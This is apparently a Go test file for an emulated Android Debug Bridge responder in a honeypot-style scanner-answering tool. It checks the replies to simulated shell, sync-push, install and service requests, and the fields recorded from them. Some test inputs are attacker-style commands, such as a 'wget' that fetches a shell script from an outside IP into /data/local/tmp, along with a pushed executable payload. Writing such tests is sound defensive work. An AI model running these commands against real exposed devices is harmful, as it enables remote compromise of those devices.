package adb

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"strings"
	"testing"
	"time"

	"github.com/masscanned-go/masscanned/internal/app"
	"github.com/masscanned-go/masscanned/internal/app/apptest"
)

// msg builds a client message.
func msg(cmd, a0, a1 uint32, p string) []byte {
	b := make([]byte, 24)
	le := binary.LittleEndian
	le.PutUint32(b, cmd)
	le.PutUint32(b[4:], a0)
	le.PutUint32(b[8:], a1)
	le.PutUint32(b[12:], uint32(len(p)))
	var sum uint32
	for i := 0; i < len(p); i++ {
		sum += uint32(p[i])
	}
	le.PutUint32(b[16:], sum)
	le.PutUint32(b[20:], cmd^0xffffffff)
	return append(b, p...)
}

type reply struct {
	cmd        string
	a0, a1     uint32
	check      uint32
	p          string
	magicValid bool
}

func parseReplies(t *testing.T, b []byte) []reply {
	t.Helper()
	var out []reply
	for len(b) > 0 {
		if len(b) < 24 {
			t.Fatalf("short reply %q", b)
		}
		h := parseHeader(b)
		n := 24 + int(h.length)
		if len(b) < n {
			t.Fatalf("truncated reply %q", b)
		}
		out = append(out, reply{cmdName(h.cmd), h.arg0, h.arg1, h.check, string(b[24:n]),
			binary.LittleEndian.Uint32(b[20:]) == h.cmd^0xffffffff})
		b = b[n:]
	}
	return out
}

// session feeds chunks as the stream does (each chunk one TCP segment)
// and returns, per chunk, the replies and fields.
type session struct {
	t   *testing.T
	h   *Handler
	c   *app.Conn
	buf []byte
}

func newSession(t *testing.T) *session {
	c := apptest.Conn(app.TCP, "linux", "203.0.113.9:40000", "192.0.2.1:5555", time.Unix(1700000000, 0))
	return &session{t: t, h: New(), c: c}
}

func (s *session) send(b []byte) ([]reply, map[string]any, bool) {
	s.t.Helper()
	s.buf = append(s.buf, b...)
	var out []byte
	f := map[string]any{}
	closed := false
	for len(s.buf) > 0 {
		res := s.h.Serve(s.c, s.buf)
		for _, x := range res.Fields {
			if _, ok := f[x.Key]; !ok {
				f[x.Key] = x.Value
			}
		}
		if res.NeedMore {
			break
		}
		out = append(out, res.Reply...)
		if res.Consumed <= 0 {
			s.t.Fatalf("no progress on %q: %+v", s.buf, res)
		}
		s.buf = s.buf[res.Consumed:]
		if res.Close {
			closed = true
			break
		}
	}
	return parseReplies(s.t, out), f, closed
}

const hostBanner = "host::features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir,apex,abb,fixed_push_symlink_timestamp,abb_exec,remount_shell,track_app,sendrecv_v2"

func (s *session) connect() {
	s.t.Helper()
	r, f, _ := s.send(msg(cmdCNXN, 0x01000001, 256<<10, hostBanner))
	if len(r) != 1 || r[0].cmd != "CNXN" || r[0].a0 != 0x01000001 || r[0].a1 != 256<<10 || r[0].p != DefaultBanner {
		s.t.Fatalf("CNXN reply %+v", r)
	}
	if f["system_type"] != "host" || len(f["features"].([]string)) != 12 {
		s.t.Fatalf("CNXN fields %v", f)
	}
}

func TestDetect(t *testing.T) {
	h := New()
	for _, tc := range []struct {
		in   []byte
		want app.Verdict
	}{
		{msg(cmdCNXN, 0x01000000, 4096, "host::\x00"), app.Yes},
		{msg(cmdOPEN, 1, 0, "shell:id\x00"), app.Yes},
		{msg(cmdAUTH, 3, 0, "key"), app.Yes},
		{[]byte("CN"), app.Maybe},
		{[]byte("CNXN\x00\x00\x00\x01"), app.Maybe},
		{append([]byte("CNXN"), make([]byte, 20)...), app.No}, // bad magic
		{[]byte("GET / HTTP/1.0\r\n\r\n"), app.No},
		{[]byte("X"), app.No},
	} {
		if got := h.Detect(tc.in, app.TCP); got != tc.want {
			t.Errorf("%q: %v, want %v", tc.in, got, tc.want)
		}
	}
	if h.Detect(msg(cmdCNXN, 0x01000000, 4096, "host::\x00"), app.UDP) != app.No {
		t.Error("UDP detected")
	}
}

// TestNmap: nmap's adbConnect probe (an old client: version 0x01000000,
// 4 KiB payloads, summed payload) gets the version and size it offered
// back, with a checksum, and the banner nmap's pattern names.
func TestNmap(t *testing.T) {
	probe := []byte("CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00")
	s := newSession(t)
	r, f, _ := s.send(probe)
	if len(r) != 1 || r[0].a0 != 0x01000000 || r[0].a1 != 4096 || !r[0].magicValid {
		t.Fatalf("reply %+v", r)
	}
	var sum uint32
	for i := 0; i < len(r[0].p); i++ {
		sum += uint32(r[0].p[i])
	}
	if r[0].check != sum {
		t.Errorf("check %d, want %d", r[0].check, sum)
	}
	if f["banner"] != "host::" {
		t.Errorf("fields %v", f)
	}
	res := New().Serve(apptest.Conn(app.TCP, "linux", "203.0.113.9:40000", "192.0.2.1:5555", time.Now()), probe)
	apptest.NmapNames(t, "adbConnect", res.Reply, "Android Debug Bridge $1")
}

func TestShellCommand(t *testing.T) {
	s := newSession(t)
	s.connect()
	// shell v1: output then CLSE
	r, f, _ := s.send(msg(cmdOPEN, 7, 0, "shell:getprop ro.product.model; id\x00"))
	if len(r) != 3 || r[0].cmd != "OKAY" || r[0].a1 != 7 || r[1].cmd != "WRTE" || r[2].cmd != "CLSE" {
		t.Fatalf("replies %+v", r)
	}
	if want := "X96mini\nuid=2000(shell) gid=2000(shell)"; !strings.HasPrefix(r[1].p, want) {
		t.Errorf("output %q", r[1].p)
	}
	if f["service"] != "shell:getprop ro.product.model; id" || f["command"] != "getprop ro.product.model; id" {
		t.Errorf("fields %v", f)
	}
	local := r[0].a0
	// the client's CLSE for a stream we closed: nothing
	if r, _, _ = s.send(msg(cmdCLSE, 7, local, "")); len(r) != 0 {
		t.Errorf("CLSE of a closed stream: %+v", r)
	}

	// shell v2: stdout packet, exit packet
	r, f, _ = s.send(msg(cmdOPEN, 8, 0, "shell,v2,raw:uname -a; cd /data/local/tmp; wget http://203.0.113.5/x.sh\x00"))
	if len(r) != 4 || r[1].cmd != "WRTE" || r[2].cmd != "WRTE" || r[3].cmd != "CLSE" {
		t.Fatalf("replies %+v", r)
	}
	r[1].p += r[2].p
	out := "Linux localhost 4.9.113 #1 SMP PREEMPT Wed Jan 6 16:45:33 CST 2021 aarch64\n/system/bin/sh: wget: inaccessible or not found\n"
	want := string(v2Packet(v2Stdout, []byte(out))) + string(v2Packet(v2Exit, []byte{127}))
	if r[1].p != want {
		t.Errorf("v2 output %q\nwant %q", r[1].p, want)
	}
	if u, _ := f["urls"].([]string); len(u) != 1 || u[0] != "http://203.0.113.5/x.sh" {
		t.Errorf("fields %v", f)
	}

	// exec: raw
	r, _, _ = s.send(msg(cmdOPEN, 9, 0, "exec:pm list packages kodi"))
	if len(r) != 3 || r[1].p != "package:org.xbmc.kodi\n" {
		t.Errorf("exec %+v", r)
	}
}

func TestInteractive(t *testing.T) {
	s := newSession(t)
	s.connect()
	r, _, _ := s.send(msg(cmdOPEN, 3, 0, "shell:\x00"))
	if len(r) != 2 || r[1].p != "p281:/ $ " {
		t.Fatalf("prompt %+v", r)
	}
	local := r[0].a0
	// a tty echoes; the line runs on CR
	r, f, _ := s.send(msg(cmdWRTE, 3, local, "cd /data/local/tmp\r"))
	if len(r) != 2 || r[0].cmd != "OKAY" || r[1].p != "cd /data/local/tmp\r\np281:/data/local/tmp $ " {
		t.Fatalf("replies %+v", r)
	}
	if f["command"] != "cd /data/local/tmp" {
		t.Errorf("fields %v", f)
	}
	r, _, _ = s.send(msg(cmdWRTE, 3, local, "idd\x7f\r"))
	if len(r) != 2 || !strings.HasPrefix(r[1].p, "idd\b \b\r\nuid=2000(shell)") {
		t.Fatalf("replies %+v", r)
	}
	r, _, _ = s.send(msg(cmdWRTE, 3, local, "exit\r"))
	if len(r) != 3 || r[2].cmd != "CLSE" {
		t.Fatalf("exit %+v", r)
	}

	// v2 pty: stdin packets, window size ignored, close-stdin ends it
	r, _, _ = s.send(msg(cmdOPEN, 4, 0, "shell,v2,TERM=xterm-256color,pty:\x00"))
	local = r[0].a0
	in := string(v2Packet(v2WindowSize, []byte("24x80,0x0\x00"))) + string(v2Packet(v2Stdin, []byte("whoami\r")))
	r, f, _ = s.send(msg(cmdWRTE, 4, local, in))
	if len(r) != 2 || r[1].p != string(v2Packet(v2Stdout, []byte("whoami\r\nshell\r\np281:/ $ "))) {
		t.Fatalf("v2 replies %+v", r)
	}
	if f["command"] != "whoami" {
		t.Errorf("fields %v", f)
	}
	r, _, _ = s.send(msg(cmdWRTE, 4, local, string(v2Packet(v2CloseStdin, nil))))
	if len(r) != 3 || r[1].p != string(v2Packet(v2Exit, []byte{0})) || r[2].cmd != "CLSE" {
		t.Fatalf("close stdin %+v", r)
	}
	// a stream the client closes is answered with our CLSE
	r, _, _ = s.send(msg(cmdOPEN, 5, 0, "shell:\x00"))
	local = r[0].a0
	r, _, _ = s.send(msg(cmdCLSE, 5, local, ""))
	if len(r) != 1 || r[0].cmd != "CLSE" || r[0].a0 != local || r[0].a1 != 5 {
		t.Errorf("CLSE %+v", r)
	}
}

func syncReq(id string, p string) string {
	b := make([]byte, 8)
	copy(b, id)
	binary.LittleEndian.PutUint32(b[4:], uint32(len(p)))
	return string(b) + p
}

func TestSyncPush(t *testing.T) {
	s := newSession(t)
	s.connect()
	r, f, _ := s.send(msg(cmdOPEN, 11, 0, "sync:\x00"))
	if len(r) != 1 || r[0].cmd != "OKAY" || f["service"] != "sync:" {
		t.Fatalf("open %+v", r)
	}
	local := r[0].a0
	// STA2 of the destination: missing
	r, f, _ = s.send(msg(cmdWRTE, 11, local, syncReq("STA2", "/data/local/tmp/x")))
	if len(r) != 2 || r[0].cmd != "OKAY" || len(r[1].p) != 72 || r[1].p[:4] != "STA2" || binary.LittleEndian.Uint32([]byte(r[1].p[4:])) != enoent {
		t.Fatalf("STA2 %+v", r)
	}
	if f["sync"] != "STA2 /data/local/tmp/x" {
		t.Errorf("fields %v", f)
	}
	// SEND in pieces: the file spans WRTEs and a WRTE spans segments
	content := strings.Repeat("\x7fELF payload ", 10000) // 130000 bytes
	var stream string
	stream += syncReq("SEND", "/data/local/tmp/x,33261")
	for c := content; len(c) > 0; {
		n := min(len(c), syncDataMax)
		stream += syncReq("DATA", "")[:4] + string(binary.LittleEndian.AppendUint32(nil, uint32(n))) + c[:n]
		c = c[n:]
	}
	stream += "DONE" + string(binary.LittleEndian.AppendUint32(nil, 1700000000))
	var all []reply
	fields := map[string]any{}
	for len(stream) > 0 {
		n := min(len(stream), 50000)
		w := msg(cmdWRTE, 11, local, stream[:n])
		stream = stream[n:]
		for len(w) > 0 { // 1400-byte segments
			k := min(len(w), 1400)
			r, f, _ := s.send(w[:k])
			w = w[k:]
			all = append(all, r...)
			for k, v := range f {
				fields[k] = v
			}
		}
	}
	sum := sha256.Sum256([]byte(content))
	if fields["file"] != "/data/local/tmp/x" || fields["mode"] != "0755" || fields["size"] != uint64(len(content)) || fields["sha256"] != hex.EncodeToString(sum[:]) {
		t.Errorf("fields %v", fields)
	}
	if len(all) != 4 || all[2].cmd != "OKAY" || all[3].cmd != "WRTE" || all[3].p != "OKAY\x00\x00\x00\x00" {
		t.Fatalf("replies %+v", all)
	}
	// the pushed file now stats as a regular file
	r, _, _ = s.send(msg(cmdWRTE, 11, local, syncReq("STAT", "/data/local/tmp/x")))
	if len(r) != 2 || binary.LittleEndian.Uint32([]byte(r[1].p[4:])) != 0o100755 || binary.LittleEndian.Uint32([]byte(r[1].p[8:])) != uint32(len(content)) {
		t.Errorf("STAT %+v", r)
	}
	// LIST shows it
	r, _, _ = s.send(msg(cmdWRTE, 11, local, syncReq("LIST", "/data/local/tmp")))
	if len(r) != 2 || !strings.Contains(r[1].p, "DENT") || !strings.Contains(r[1].p, "x") || !strings.HasSuffix(r[1].p, "DONE"+strings.Repeat("\x00", 16)) {
		t.Errorf("LIST %+v", r)
	}
	// RECV fails and ends the service
	r, f, _ = s.send(msg(cmdWRTE, 11, local, syncReq("RECV", "/data/local/tmp/x")))
	if len(r) != 3 || !strings.HasPrefix(r[1].p, "FAIL") || !strings.HasSuffix(r[1].p, "No such file or directory") || r[2].cmd != "CLSE" {
		t.Errorf("RECV %+v", r)
	}
	if f["sync_error"] == nil {
		t.Errorf("fields %v", f)
	}
}

func TestSyncErrors(t *testing.T) {
	for _, tc := range []struct{ in, fail string }{
		{syncReq("SEND", "/data/local/tmp/x"), "missing , in ID_SEND_V1"},
		{syncReq("SEND", "/x,0755") + syncReq("DATA", "")[:4] + "\x01\x00\x02\x00", "oversize data message"},
		{syncReq("SEND", "/x,0755") + syncReq("XXXX", ""), "invalid data message"},
		{"STAT\x00\x10\x00\x00", "path too long"},
		{syncReq("ABCD", ""), "unknown command 44434241"},
	} {
		s := newSession(t)
		s.connect()
		r, _, _ := s.send(msg(cmdOPEN, 1, 0, "sync:"))
		r, _, _ = s.send(msg(cmdWRTE, 1, r[0].a0, tc.in))
		if len(r) != 3 || r[1].p[8:] != tc.fail || r[2].cmd != "CLSE" {
			t.Errorf("%q: %+v", tc.in, r)
		}
	}
}

func TestServices(t *testing.T) {
	for _, tc := range []struct {
		svc   string
		cmds  string
		out   string
		close bool
		field string
	}{
		{"reboot:", "OKAY CLSE", "", true, ""},
		{"tcpip:5555", "OKAY WRTE CLSE", "restarting in TCP mode port: 5555\n", true, ""},
		{"root:", "OKAY WRTE CLSE", "adbd cannot run as root in production builds\n", false, ""},
		{"framebuffer:", "OKAY CLSE", "", false, ""},
		{"jdwp:1234", "CLSE", "", false, ""},
		{"tcp:198.51.100.7:25", "CLSE", "", false, "tcp:198.51.100.7:25"},
		{"nosuch:", "CLSE", "", false, ""},
		{"abb_exec:package\x00list\x00packages\x00tvlauncher", "OKAY WRTE CLSE", "package:com.google.android.tvlauncher\n", false, ""},
	} {
		s := newSession(t)
		s.connect()
		r, f, closed := s.send(msg(cmdOPEN, 2, 0, tc.svc+"\x00"))
		var cmds []string
		out := ""
		for _, x := range r {
			cmds = append(cmds, x.cmd)
			if x.cmd == "WRTE" {
				out += x.p
			}
		}
		if strings.Join(cmds, " ") != tc.cmds || out != tc.out || closed != tc.close {
			t.Errorf("%s: %v %q close %v", tc.svc, cmds, out, closed)
		}
		if tc.field != "" && f["forward"] != tc.field {
			t.Errorf("%s: fields %v", tc.svc, f)
		}
	}
}

func TestInstall(t *testing.T) {
	s := newSession(t)
	s.connect()
	apk := strings.Repeat("PK\x03\x04", 3000)
	r, f, _ := s.send(msg(cmdOPEN, 6, 0, "exec:cmd package 'install' -S 12000\x00"))
	if len(r) != 1 || f["command"] != "cmd package 'install' -S 12000" {
		t.Fatalf("open %+v %v", r, f)
	}
	local := r[0].a0
	r, _, _ = s.send(msg(cmdWRTE, 6, local, apk[:5000]))
	if len(r) != 1 {
		t.Fatalf("part %+v", r)
	}
	r, f, _ = s.send(msg(cmdWRTE, 6, local, apk[5000:]))
	sum := sha256.Sum256([]byte(apk))
	if len(r) != 3 || r[1].p != "Success\n" || f["sha256"] != hex.EncodeToString(sum[:]) || f["size"] != uint64(12000) {
		t.Errorf("install %+v %v", r, f)
	}
}

func TestBadInput(t *testing.T) {
	s := newSession(t)
	// OPEN before CNXN is ignored
	if r, f, _ := s.send(msg(cmdOPEN, 1, 0, "shell:id")); len(r) != 0 || f["error"] != "not connected" {
		t.Errorf("%+v %v", r, f)
	}
	// a payload over the maximum ends the connection
	b := msg(cmdWRTE, 1, 1, "")
	binary.LittleEndian.PutUint32(b[12:], 1<<20)
	if _, _, closed := s.send(b); !closed {
		t.Error("oversize payload accepted")
	}
	s = newSession(t)
	s.connect()
	b = msg(cmdOKAY, 1, 1, "")
	b[20] ^= 1
	if _, f, closed := s.send(b); !closed || f["error"] != "bad magic" {
		t.Error("bad magic accepted")
	}
	// too many streams
	s = newSession(t)
	s.connect()
	for i := 1; i <= maxStreams+1; i++ {
		r, _, _ := s.send(msg(cmdOPEN, uint32(i), 0, "shell:"))
		if i <= maxStreams && r[0].cmd != "OKAY" || i > maxStreams && r[0].cmd != "CLSE" {
			t.Errorf("stream %d: %+v", i, r)
		}
	}
}

func FuzzADB(f *testing.F) {
	cnxn := msg(cmdCNXN, 0x01000001, 256<<10, hostBanner)
	f.Add(cnxn)
	f.Add(append(append([]byte{}, cnxn...), msg(cmdOPEN, 1, 0, "shell,v2,raw:id")...))
	f.Add(append(append([]byte{}, cnxn...), msg(cmdOPEN, 1, 0, "sync:")...))
	f.Add(append(append(append([]byte{}, cnxn...), msg(cmdOPEN, 1, 0, "sync:")...), msg(cmdWRTE, 1, 1, syncReq("SEND", "/x,0755")+"DATA\x02\x00\x00\x00hiDONE\x00\x00\x00\x00")...))
	f.Add(append(append(append([]byte{}, cnxn...), msg(cmdOPEN, 1, 0, "shell,v2,pty:")...), msg(cmdWRTE, 1, 1, string(v2Packet(v2Stdin, []byte("id\r"))))...))
	f.Fuzz(func(t *testing.T, data []byte) {
		c := apptest.Conn(app.TCP, "linux", "203.0.113.9:40000", "192.0.2.1:5555", time.Unix(0, 0))
		apptest.Drive(t, New(), c, data, apptest.Limits{})
		c = apptest.Conn(app.UDP, "linux", "203.0.113.9:40000", "192.0.2.1:5555", time.Unix(0, 0))
		apptest.Drive(t, New(), c, data, apptest.Limits{NoUDPReply: true})
	})
}
